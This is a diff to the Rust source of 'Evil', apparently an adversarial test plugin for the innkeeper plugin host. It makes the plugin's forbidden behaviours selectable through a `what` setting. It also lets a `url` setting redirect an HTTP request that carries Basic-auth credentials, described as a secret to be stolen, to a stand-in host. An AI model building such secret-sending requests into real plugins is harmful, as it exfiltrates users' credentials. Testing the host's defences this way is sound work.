@@ -1,5 +1,5 @@
-//! Does everything that a plugin must not do, one thing at a time: the label of the account says which. It is
-//! written against the bindings instead of the trait, because the trait would keep it from half of it.
+//! Does everything that a plugin must not do, one thing at a time: the setting `what` says which, or else the label
+//! of the account. It is written against the bindings instead of the trait, because the trait would keep it from half of it.
 
 use std::sync::atomic::{AtomicU32, Ordering};
 
@@ -67,10 +67,16 @@ fn allocate() -> ! {
     }
 }
 
+/// A setting that is no secret, if there is one.
+fn setting(name: &str) -> Option<String> {
+    settings::get(name).ok().flatten()
+}
+
+/// To where the setting `url` says, with a secret that is to be stolen.
 fn request() -> http::Request {
     http::Request {
         method: "GET".into(),
-        url: "https://192.0.2.1/".into(),
+        url: setting("url").unwrap_or_else(|| "https://192.0.2.1/".into()),
         headers: vec![(
             "authorization".into(),
             http::HeaderValue::Basic(("ada".into(), "password".into())),
@@ -189,7 +195,8 @@ fn lies(what: &str) -> Option<Step> {
     })
 }
 
-fn does(what: &str) -> Result<Step, Failure> {
+fn does(account: &Account) -> Result<Step, Failure> {
+    let what = &setting("what").unwrap_or_else(|| account.label.clone());
     if what == "fails" {
         return Err(Failure::Misconfigured("line\nbreak ".repeat(200)));
     }
@@ -232,7 +239,7 @@ impl Guest for Evil {
 
     fn begin_enrolment(account: Account, _: Vec<Held>) -> Result<Step, Failure> {
         innkeeper_plugin::report_panics();
-        does(&account.label)
+        does(&account)
     }
 
     fn continue_enrolment(
@@ -259,7 +266,7 @@ impl Guest for Evil {
 
     fn begin_challenge(account: Account, _: Vec<Held>) -> Result<Step, Failure> {
         innkeeper_plugin::report_panics();
-        does(&account.label)
+        does(&account)
     }
 
     fn continue_challenge(
